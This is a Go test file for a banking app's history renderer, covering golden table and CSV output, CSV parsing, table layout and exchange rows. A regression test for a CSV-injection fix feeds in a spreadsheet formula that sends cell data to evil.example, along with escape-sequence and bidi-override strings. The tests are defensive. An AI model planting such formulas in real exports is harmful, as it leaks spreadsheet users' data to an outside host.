package render

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"tsbank/contract"
)

var update = flag.Bool("update", false, "rewrite golden files")

// fixtureRows are the rows of alice's January, newest first as a history page returns them.
// They cover every transaction type, negative amounts, an empty description, and descriptions
// with a comma, quotes, a newline, a tab and a non-ASCII letter, which are what break naive
// CSV and table writers. Times are in UTC so that a CSV round trip compares equal.
func fixtureRows() []contract.HistoryRow {
	return []contract.HistoryRow{
		{
			EventID: "evt-0005", Account: "alice", Type: "transfer_in", Amount: "40.00", Currency: "EUR",
			BalanceAfter: "214.50", At: time.Date(2026, 1, 20, 18, 45, 10, 123456789, time.UTC),
			Description: `Refund: "concert" tickets, row B`, TransferID: "9b2f6c1e-7d4a-4c3b-8e5f-0a1b2c3d4e5f",
			Counterparty: "bob", Node: "account-2",
		},
		{
			EventID: "evt-0004", Account: "alice", Type: "transfer_out", Amount: "-25.50", Currency: "EUR",
			BalanceAfter: "174.50", At: time.Date(2026, 1, 15, 12, 0, 0, 0, time.UTC),
			Description: "Café \"Le Zinc\", lunch\nsplit with carol", TransferID: "3f8a2d7c-1e6b-4a9d-b2c5-7e8f9a0b1c2d",
			Counterparty: "carol", Node: "account-1",
		},
		{
			EventID: "evt-0003", Account: "alice", Type: "withdrawal", Amount: "-100.00", Currency: "EUR",
			BalanceAfter: "200.00", At: time.Date(2026, 1, 10, 8, 15, 30, 500000000, time.UTC),
			Description: "ATM\tMain St.", Node: "account-1",
		},
		{
			EventID: "evt-0002", Account: "alice", Type: "deposit", Amount: "250.00", Currency: "EUR",
			BalanceAfter: "300.00", At: time.Date(2026, 1, 5, 9, 30, 0, 0, time.UTC),
			Description: "Salary, January", Node: "account-1",
		},
		{
			EventID: "evt-0001", Account: "alice", Type: "deposit", Amount: "50.00", Currency: "EUR",
			BalanceAfter: "50.00", At: time.Date(2026, 1, 2, 10, 0, 0, 0, time.UTC),
			Node: "account-2",
		},
	}
}

func fixturePage() contract.HistoryPage {
	return contract.HistoryPage{
		Account:  "alice",
		Currency: "EUR",
		Rows:     fixtureRows(),
		Totals:   contract.HistoryTotals{Count: 5, In: "340.00", Out: "-125.50", Net: "214.50"},
		Next:     "eyJhdCI6IjIwMjYtMDEtMDJUMTA6MDA6MDBaIiwiaWQiOiJldnQtMDAwMSJ9",
	}
}

func emptyPage() contract.HistoryPage {
	return contract.HistoryPage{Account: "alice", Currency: "EUR", Rows: []contract.HistoryRow{}}
}

// fixtureStatement is the same month in time order, as a statement returns it.
func fixtureStatement() contract.Statement {
	rows := fixtureRows()
	for i, j := 0, len(rows)-1; i < j; i, j = i+1, j-1 {
		rows[i], rows[j] = rows[j], rows[i]
	}
	return contract.Statement{
		Account:        "alice",
		Currency:       "EUR",
		From:           time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC),
		To:             time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC),
		OpeningBalance: "0.00",
		ClosingBalance: "214.50",
		Totals:         contract.HistoryTotals{Count: 5, In: "340.00", Out: "-125.50", Net: "214.50"},
		Rows:           rows,
	}
}

func TestGolden(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		file string
		got  []byte
	}{
		{name: "page table matches golden", file: "page.table.golden", got: PageTable(fixturePage())},
		{name: "empty page table matches golden", file: "empty.table.golden", got: PageTable(emptyPage())},
		{name: "page csv matches golden", file: "page.csv.golden", got: PageCSV(fixturePage())},
		{name: "statement table matches golden", file: "statement.table.golden", got: StatementTable(fixtureStatement())},
		{name: "statement csv matches golden", file: "statement.csv.golden", got: StatementCSV(fixtureStatement())},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			path := filepath.Join("testdata", tt.file)
			if *update {
				if err := os.WriteFile(path, tt.got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if !bytes.Equal(tt.got, want) {
				t.Errorf("output differs from %s (run with -update if the change is intended)\ngot:\n%s\nwant:\n%s", path, tt.got, want)
			}
		})
	}
}

func TestCSVRoundTrip(t *testing.T) {
	t.Parallel()
	nonUTC := fixtureRows()
	// A reply decoded from JSON may carry a non-UTC zone; the export is in UTC, so the rows
	// come back as the same instants in UTC.
	paris := time.FixedZone("CET", 3600)
	for i := range nonUTC {
		nonUTC[i].At = nonUTC[i].At.In(paris)
	}
	tests := []struct {
		name string
		data []byte
		want []contract.HistoryRow
	}{
		{
			name: "page rows come back unchanged",
			data: PageCSV(fixturePage()),
			want: fixtureRows(),
		},
		{
			name: "non-UTC times come back as the same instants in UTC",
			data: PageCSV(contract.HistoryPage{Rows: nonUTC}),
			want: fixtureRows(),
		},
		{
			name: "empty page gives an empty slice",
			data: PageCSV(emptyPage()),
			want: []contract.HistoryRow{},
		},
		{
			name: "statement rows come back followed by the two balance rows",
			data: StatementCSV(fixtureStatement()),
			want: append(fixtureStatement().Rows,
				contract.HistoryRow{Account: "alice", Type: TypeOpeningBalance, Currency: "EUR", BalanceAfter: "0.00",
					At: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)},
				contract.HistoryRow{Account: "alice", Type: TypeClosingBalance, Currency: "EUR", BalanceAfter: "214.50",
					At: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)},
			),
		},
		{
			name: "byte order mark added by a spreadsheet is ignored",
			data: append([]byte("\uFEFF"), PageCSV(fixturePage())...),
			want: fixtureRows(),
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := ParseCSV(tt.data)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("ParseCSV(PageCSV(rows)):\ngot  %#v\nwant %#v", got, tt.want)
			}
		})
	}
}

func TestParseCSVRejectsBadInput(t *testing.T) {
	t.Parallel()
	good := string(PageCSV(fixturePage()))
	header, _, _ := strings.Cut(good, "\r\n")
	tests := []struct {
		name    string
		data    string
		wantErr string
	}{
		{name: "empty input fails", data: "", wantErr: "want a header row"},
		{name: "reordered columns fail", data: strings.Replace(good, "amount,currency", "currency,amount", 1), wantErr: "header is"},
		{name: "missing column fails", data: strings.TrimSuffix(header, ",to_currency") + "\r\n", wantErr: "header is"},
		{name: "row with too few fields fails", data: header + "\r\nevt-1,alice\r\n", wantErr: "wrong number of fields"},
		{name: "unparsable time fails with its line", data: header + "\r\nevt-1,alice,deposit,1.00,EUR,1.00,2026-01-02,,,,n,,,,,,\r\n", wantErr: "line 2: at"},
		{name: "unterminated quote fails", data: header + "\r\n\"evt-1,alice\r\n", wantErr: "parse history csv"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, err := ParseCSV([]byte(tt.data))
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("ParseCSV error = %v, want one containing %q", err, tt.wantErr)
			}
		})
	}
}

// TestTableShape checks the layout rule on tables whose text is built to break it: every line
// that starts with "|" (the header, the separators and the rows) has the same width in runes,
// there is one such line per row plus the header and two separators (one when empty), and no
// line carries a control character. The title, balance, totals, "(no transactions)" and
// "next:" lines are free-form and exempt.
func TestTableShape(t *testing.T) {
	t.Parallel()
	hostile := fixtureRows()
	hostile[0].Description = "two\r\nlines\vand\fmore\x1b[31mred\u2028sep\u202Eevil\u200Bzero"
	hostile[1].Description = "Ünïcödé ñ ß ø — “quotes” ‘and’ €"
	hostile[2].Counterparty = "carol\tsecond"
	hostile[3].TransferID = strings.Repeat("long-transfer-id-", 8)
	hostile[4].Description = "bad utf-8 \xff\xfe here"

	tests := []struct {
		name     string
		out      []byte
		rowLines int
	}{
		{name: "page lines have equal width", out: PageTable(fixturePage()), rowLines: 5 + 3},
		{name: "empty page has header and separator only", out: PageTable(emptyPage()), rowLines: 2},
		{name: "nil rows render like an empty page", out: PageTable(contract.HistoryPage{Account: "alice"}), rowLines: 2},
		{name: "statement lines have equal width", out: StatementTable(fixtureStatement()), rowLines: 5 + 3},
		{name: "control characters and invalid utf-8 keep the layout", out: PageTable(contract.HistoryPage{Account: "a\nb", Rows: hostile, Next: "x\ty"}), rowLines: 5 + 3},
		{name: "empty statement has header and separator only", out: StatementTable(contract.Statement{Account: "alice"}), rowLines: 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if !utf8.Valid(tt.out) {
				t.Errorf("output is not valid UTF-8")
			}
			text, ok := strings.CutSuffix(string(tt.out), "\n")
			if !ok {
				t.Errorf("output does not end with a newline")
			}
			want, n := -1, 0
			for i, line := range strings.Split(text, "\n") {
				for _, r := range line {
					if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
						t.Errorf("line %d has unprintable %U: %q", i+1, r, line)
					}
				}
				if !strings.HasPrefix(line, "|") {
					continue
				}
				n++
				w := utf8.RuneCountInString(line)
				if want < 0 {
					want = w
				}
				if w != want {
					t.Errorf("line %d is %d runes wide, want %d like the header:\n%s", i+1, w, want, tt.out)
				}
			}
			if n != tt.rowLines {
				t.Errorf("got %d table lines, want %d:\n%s", n, tt.rowLines, tt.out)
			}
		})
	}
}

func TestPageTableNextLine(t *testing.T) {
	t.Parallel()
	withNext := fixturePage()
	lastPage := fixturePage()
	lastPage.Next = ""
	tests := []struct {
		name     string
		page     contract.HistoryPage
		wantLast string
	}{
		{name: "page with a next cursor ends with it", page: withNext, wantLast: "next: " + withNext.Next},
		{name: "last page ends with the totals", page: lastPage, wantLast: "totals of these 5 rows only (this page, not the account's or the whole filter's): in 340.00, out -125.50, net 214.50"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			lines := strings.Split(strings.TrimSuffix(string(PageTable(tt.page)), "\n"), "\n")
			if got := lines[len(lines)-1]; got != tt.wantLast {
				t.Errorf("last line = %q, want %q", got, tt.wantLast)
			}
		})
	}
}

// TestCSVNeutralisesFormulasInTextCells pins issue 12's CSV injection: a description such as
// =HYPERLINK(…) was written as it came, and a spreadsheet opening the export ran it. Every text
// cell that starts with = + - @, a tab or a carriage return now starts with an apostrophe (text,
// to a spreadsheet); amounts and balances keep their minus sign and stay numbers; and ParseCSV
// gives back the rows as they were.
func TestCSVNeutralisesFormulasInTextCells(t *testing.T) {
	t.Parallel()
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"refund")`, "+1+1", "-2+3", "@SUM(A1:A9)",
		"\tcmd", "\rcmd", "'quoted already", "plain text",
	}
	var rows []contract.HistoryRow
	for i, d := range hostile {
		rows = append(rows, contract.HistoryRow{
			EventID: "evt-" + string(rune('a'+i)), Account: "alice", Type: "transfer_out", Amount: "-25.50",
			Currency: "EUR", BalanceAfter: "-3.00", At: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
			Description: d, TransferID: "-t1", Counterparty: "-A1", Node: "account-1",
		})
	}
	out := PageCSV(contract.HistoryPage{Rows: rows})
	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	text := map[int]bool{0: true, 1: true, 2: true, 4: true, 7: true, 8: true, 9: true, 10: true}
	for i, rec := range records[1:] {
		for col, cell := range rec {
			if text[col] && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d, column %s starts a formula: %q", i+1, csvHeader[col], cell)
			}
		}
		if rec[3] != "-25.50" || rec[5] != "-3.00" {
			t.Errorf("row %d: amount %q and balance %q, want the numbers -25.50 and -3.00", i+1, rec[3], rec[5])
		}
	}
	if got := records[1][7]; got != `'=HYPERLINK("http://evil.example/?x="&A1,"refund")` {
		t.Errorf("the formula is written as %q, want it after an apostrophe", got)
	}
	if got := records[8][7]; got != "plain text" {
		t.Errorf("plain text is written as %q, want it unchanged", got)
	}
	back, err := ParseCSV(out)
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		want := rows[i]
		if want.Description == "\rcmd" {
			want.Description = "cmd" // a lone carriage return does not survive CSV (see PageCSV)
		}
		if !reflect.DeepEqual(back[i], want) {
			t.Errorf("row %d reads back as %+v, want %+v", i, back[i], want)
		}
	}
}

// TestAnExchangeRowKeepsItsQuoteRateAndBothAmountsInCSVAndTable: a cross-currency transfer's row
// carries its exchange in every format; a table without one gets no exchange column.
func TestAnExchangeRowKeepsItsQuoteRateAndBothAmountsInCSVAndTable(t *testing.T) {
	t.Parallel()
	x := &contract.Exchange{Quote: "q1", Rate: "162.5", FromAmount: "10.00", FromCurrency: "EUR", ToAmount: "1625", ToCurrency: "JPY"}
	row := contract.HistoryRow{EventID: "e1", Account: "erin", Type: contract.EventTransferIn, Amount: "1625", Currency: "JPY",
		BalanceAfter: "1625", At: time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC), TransferID: "p1", Counterparty: "alice", Node: "account-2", Exchange: x}
	plain := row
	plain.EventID, plain.Exchange = "e2", nil
	rows, err := ParseCSV(PageCSV(contract.HistoryPage{Rows: []contract.HistoryRow{row, plain}}))
	if err != nil {
		t.Fatal(err)
	}
	if rows[0].Exchange == nil || *rows[0].Exchange != *x || rows[1].Exchange != nil {
		t.Fatalf("read back %+v and %+v", rows[0].Exchange, rows[1].Exchange)
	}
	table := string(PageTable(contract.HistoryPage{Account: "erin", Currency: "JPY", Rows: []contract.HistoryRow{row, plain}}))
	if !strings.Contains(table, "10.00 EUR -> 1625 JPY at 162.5, quote q1") {
		t.Fatalf("table:\n%s", table)
	}
	if strings.Contains(string(PageTable(contract.HistoryPage{Rows: []contract.HistoryRow{plain}})), "exchange") {
		t.Fatal("a table without an exchange row has an exchange column")
	}
}
